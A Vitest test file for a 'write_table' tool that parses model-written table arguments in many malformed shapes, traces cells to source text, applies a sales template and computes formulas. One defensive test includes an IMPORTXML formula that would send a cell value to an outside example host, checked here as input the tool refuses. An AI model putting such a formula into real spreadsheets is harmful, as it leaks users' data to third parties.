// write_table on its own: whatever shape a model gives its arguments, whole rows come out, each with where it stands.
import { describe, expect, it } from 'vitest'
import { createGrounder } from '../../shared/table/ground.ts'
import { salesAnalysis } from '../../shared/template/built-in/sales-analysis.ts'
import type { Template } from '../../shared/template/template.ts'
import type { EngineEvent } from './engine.ts'
import { createWriteTable, type WriteTableOptions } from './write-table.ts'

type Start = Extract<EngineEvent, { type: 'table-start' }>
type Rows = Extract<EngineEvent, { type: 'rows' }>
type End = Extract<EngineEvent, { type: 'table-end' }>

const text = 'Order 0042: Ada took 2 lamps at €1,200.50 on 31 March 2026. Order 0043: Bob took 3 chairs at €80.'

const write = async (args: unknown, options: Partial<WriteTableOptions & { piece: number }> = {}) => {
  const json = typeof args === 'string' ? args : JSON.stringify(args)
  const call = createWriteTable({
    table: 0,
    template: null,
    locale: undefined,
    grounder: createGrounder([{ id: 'message:1', text }]),
    announced: () => null,
    ...options,
  })
  const events: EngineEvent[] = []
  const size = options.piece ?? 7
  for (let at = 0; at < json.length; at += size) {
    for await (const event of call.feed(json.slice(at, at + size))) events.push(event)
  }
  const ending = call.end()
  let wrong: string | null = null
  for (;;) {
    const next = await ending.next()
    if (next.done) {
      wrong = next.value
      break
    }
    events.push(next.value)
  }
  if (wrong !== null) events.push(...call.close('failed'))
  const start = events.find((event): event is Start => event.type === 'table-start')
  const told = events.filter((event): event is Rows => event.type === 'rows')
  const end = events.find((event): event is End => event.type === 'table-end')
  return {
    wrong,
    events,
    start,
    names: start?.columns.map(({ name }) => name),
    rows: told.flatMap(({ rows }) => rows),
    evidence: told.flatMap(({ evidence }) => evidence ?? []),
    receipt: end?.receipt,
  }
}

const quoted = (evidence: unknown): string =>
  typeof evidence === 'object' && evidence !== null && 'start' in evidence && 'end' in evidence
    ? text.slice(Number(evidence.start), Number(evidence.end))
    : String(evidence)

const columns = [
  { name: 'Order', type: 'text', currency: null, formula: null },
  { name: 'Price', type: 'currency', currency: 'EUR', formula: null },
]
const rows = [
  ['0042', '€1,200.50'],
  ['0043', '€80'],
]
const plain = { title: 'Orders', rows_announced: 2, columns, rows }
const cells = [
  ['0042', 1200.5],
  ['0043', 80],
]

describe('rows', () => {
  it('are traced to the words they were copied from', async () => {
    const made = await write({ ...plain, rows: [...rows, ['0044', '€99']] })
    expect(made.evidence.map((row) => row.map(quoted))).toEqual([
      ['0042', '€1,200.50'],
      ['0043', '€80'],
      ['unsupported', 'unsupported'],
    ])
    expect(made.receipt).toMatchObject({ cells_quoted: 4, cells_computed: 0, cells_unsupported: 2 })
  })

  it('come the moment they are whole, also byte by byte', async () => {
    const json = JSON.stringify(plain)
    const call = createWriteTable({
      table: 0,
      template: null,
      locale: undefined,
      grounder: null,
      announced: () => null,
    })
    const at: number[] = []
    for (const [index, sign] of [...json].entries())
      for await (const event of call.feed(sign)) if (event.type === 'rows') at.push(index)
    expect(at).toEqual([json.indexOf('€1,200.50"]') + 10, json.indexOf('€80"]') + 4])
  })

  it('are told to be as many as the model announced', async () => {
    const made = await write({ ...plain, rows_announced: 3 })
    expect(made.start?.rows_expected).toBe(3)
    expect(made.receipt).toMatchObject({ rows_seen: 3, rows_extracted: 2 })
    expect(made.receipt?.notes.join()).toContain('announces 3 rows; 2 rows were extracted')
  })

  it('are compared with what the text announces before what the model does', async () => {
    const made = await write(plain, { announced: () => 12 })
    expect(made.receipt).toMatchObject({ rows_seen: 12 })
    expect(made.receipt?.notes).toEqual(['The text announces 12 rows; 2 rows were extracted.'])
  })
})

describe('arguments of servers without strict schemas', () => {
  const shapes: [string, unknown][] = [
    ['rows as objects', { ...plain, rows: rows.map(([Order, price]) => ({ Order, price })) }],
    [
      'numbers',
      {
        ...plain,
        rows: [
          ['0042', 1200.5],
          ['0043', 80],
        ],
      },
    ],
    ['columns after rows', { title: 'Orders', rows, columns }],
    ['rows in a list of cells', { ...plain, rows: rows.map((cells) => ({ cells })) }],
    ['rows as a string', { ...plain, rows: JSON.stringify(rows) }],
    ['columns as a string', { ...plain, columns: JSON.stringify(columns) }],
    ['JSON inside JSON', JSON.stringify(JSON.stringify(plain))],
    ['a code fence', `\`\`\`json\n${JSON.stringify(plain, null, 2)}\n\`\`\``],
    ['trailing commas', JSON.stringify(plain).replaceAll(']', ',]').replaceAll('}', ',}')],
    ['a wrapper', { arguments: plain }],
    ['records', { title: 'Orders', columns, records: rows }],
    ['one brace too many', `${JSON.stringify(plain)}}`],
    ['types under other names', { ...plain, columns: [{ name: 'Order', type: 'string' }, columns[1]] }],
    ['its header as a row', { ...plain, rows: [['Order', 'Price'], ...rows] }],
  ]
  for (const [what, args] of shapes) {
    for (const piece of [1, 1000]) {
      it(`${what}, in pieces of ${piece}`, async () => {
        const made = await write(args, { piece })
        expect(made.wrong).toBeNull()
        expect(made.names).toEqual(['Order', 'Price'])
        expect(made.rows).toEqual(cells)
      })
    }
  }

  it('no columns at all: names from the rows, types from their values', async () => {
    const made = await write({
      title: 'T',
      rows: [
        { Who: 'Ada', Paid: '€80.00' },
        { Who: 'Bob', Day: '2026-03-31' },
      ],
    })
    expect(made.start?.columns.map(({ name, type }) => [name, type])).toEqual([
      ['Who', 'text'],
      ['Paid', 'currency'],
      ['Day', 'date'],
    ])
    expect(made.rows).toEqual([
      ['Ada', 80, null],
      ['Bob', null, '2026-03-31'],
    ])
  })

  it('a line break in a string, an escape that JSON does not know', async () => {
    const made = await write(
      '{"title":"T","columns":[{"name":"A","type":"text"}],"rows":[["one\ntwo"],["it\\\'s"],[None]]}',
    )
    expect(made.wrong).toBeNull()
    expect(made.rows).toEqual([['one\ntwo'], ["it's"]])
  })

  it('missing keys are empty cells; unknown ones are told', async () => {
    const made = await write({ ...plain, rows: [{ Order: '1' }, { Order: '2', Price: '€5', Weight: '3 kg' }] })
    expect(made.rows).toEqual([
      ['1', null],
      ['2', 5],
    ])
    expect(made.receipt?.notes.join()).toContain('“Weight” of row 2')
  })

  it('a second currency in a column stays as it was written', async () => {
    const made = await write({
      ...plain,
      columns: [columns[0], { name: 'Price', type: 'currency' }],
      rows: [
        ['1', '€5'],
        ['2', '$7'],
        ['3', '9'],
      ],
    })
    expect(made.start?.columns[1]).toMatchObject({ currency: 'EUR' })
    expect(made.rows).toEqual([
      ['1', 5],
      ['2', '$7'],
      ['3', 9],
    ])
    expect(made.receipt?.cells_unread).toBe(1)
  })

  it('rows without an end are a fault, and every whole one is kept', async () => {
    const made = await write('{"title":"T","columns":[{"name":"A","type":"text"}],"rows":[["1"],["2"],["3"')
    expect(made.wrong).not.toBeNull()
    expect(made.rows).toEqual([['1'], ['2']])
    expect(made.receipt).toMatchObject({ state: 'failed', rows_extracted: 2 })
  })

  it('rows that waited for columns that never came are kept too', async () => {
    const made = await write('{"rows":[{"a":"1"},{"a":"2"},{"a"')
    expect(made.rows).toEqual([[1], [2]])
    expect(made.receipt?.state).toBe('failed')
  })

  it('neither rows nor columns are no table', async () => {
    for (const args of ['', '{}', '[]', 'null', '{"title":"T"}', '"', '{"rows']) {
      const made = await write(args, { template: salesAnalysis })
      expect(made.wrong).not.toBeNull()
      expect(made.events).toEqual([])
    }
  })
})

describe('a template', () => {
  const row = (order: string, more: Record<string, unknown> = {}) => ({
    order,
    date: null,
    customer: null,
    product: null,
    quantity: null,
    unit_price: null,
    total: null,
    status: null,
    more: [],
    ...more,
  })
  const head = { title: 'Orders', rows_announced: null, more_columns: [] }

  it('gives its columns, and computes what the text does not state', async () => {
    const made = await write(
      { ...head, rows: [row('0042', { quantity: '2', unit_price: '€1,200.50' }), row('0043')] },
      { template: salesAnalysis },
    )
    expect(made.start?.columns[6]).toMatchObject({ key: 'total', formula: 'quantity*unit_price' })
    expect(made.start?.columns[5]).toMatchObject({ type: 'currency', currency: 'EUR' })
    expect(made.rows[0]?.[6]).toBe(2401)
    expect(made.evidence[0]?.[6]).toBe('computed')
    expect(made.receipt?.cells_computed).toBeGreaterThan(0)
  })

  it('takes totals that the text states as they are', async () => {
    const made = await write(
      { ...head, rows: [row('1', { quantity: '2', unit_price: '€5', total: '€11' })] },
      { template: salesAnalysis },
    )
    expect(made.start?.columns[6]?.formula).toBeUndefined()
    expect(made.rows[0]?.[6]).toBe(11)
  })

  it('names a stated value that the formula contradicts', async () => {
    const made = await write(
      {
        ...head,
        rows: [
          row('1', { quantity: '2', unit_price: '€5' }),
          row('2', { quantity: '2', unit_price: '€5', total: '€11' }),
        ],
      },
      { template: salesAnalysis },
    )
    expect(made.rows[1]?.[6]).toBe(10)
    expect(made.receipt?.notes.join()).toContain('row 2 states 11 for “Total”')
  })

  it('keeps a value that breaks a rule, and names its cell', async () => {
    const made = await write({ ...head, rows: [row('1', { status: 'Pending' })] }, { template: salesAnalysis })
    expect(made.rows[0]?.[7]).toBe('Pending')
    expect(made.receipt?.notes.join()).toMatch(/“Status” is none of Open.*row 1 \(Pending\)/)
  })

  it('takes more columns, by list or by name, and rows as plain lists', async () => {
    const more_columns = [{ name: 'Weight', type: 'number', currency: null, formula: null }]
    const made = await write(
      {
        ...head,
        more_columns,
        rows: [row('1', { more: ['3'] }), row('2', { Weight: 4 }), ['3', ...Array(7).fill(null), '5']],
      },
      { template: salesAnalysis },
    )
    expect(made.names?.at(-1)).toBe('Weight')
    expect(made.rows.map((cells) => [cells[0], cells[8]])).toEqual([
      ['1', 3],
      ['2', 4],
      ['3', 5],
    ])
  })

  it('a column of its own named “more” is no list', async () => {
    const template: Template = {
      ...salesAnalysis,
      layout: {
        ...salesAnalysis.layout,
        columns: [{ ...salesAnalysis.layout.columns[0]!, key: 'more', header: 'More' }],
      },
      validation_rules: [],
    }
    const made = await write({ ...head, rows: [{ more: 'x', more_values: [] }] }, { template })
    expect(made.rows).toEqual([['x']])
  })

  it('a model that names columns of its own is followed', async () => {
    const made = await write(plain, { template: salesAnalysis })
    expect(made.names).toEqual(['Order', 'Price'])
    expect(made.rows).toEqual(cells)
  })
})

describe('formulas', () => {
  const formula = (written: string) => ({
    title: 'T',
    columns: [
      { name: 'Unit price', type: 'number' },
      { name: 'Qty', type: 'number' },
      { name: 'Total', type: 'number', formula: written },
    ],
    rows: [['5', '3', null]],
  })

  it('over names in brackets are computed', async () => {
    for (const written of ['[Unit price] * [Qty]', '=unit_price*qty']) {
      const made = await write(formula(written))
      expect(made.rows).toEqual([[5, 3, 15]])
      expect(made.evidence[0]?.[2]).toBe('computed')
    }
  })

  it('that are not allowed are refused with a note', async () => {
    for (const written of [
      'IMPORTXML("http://a.example/?" & [Qty], "//a")',
      '[Nothing] * 2',
      '[Total] + 1',
      'HYPERLINK("x")',
    ]) {
      const made = await write(formula(written))
      expect(made.rows).toEqual([[5, 3, null]])
      expect(made.start?.columns[2]?.formula).toBeUndefined()
      expect(made.receipt?.notes.join()).toContain('The formula for “Total” was not taken')
    }
  })
})
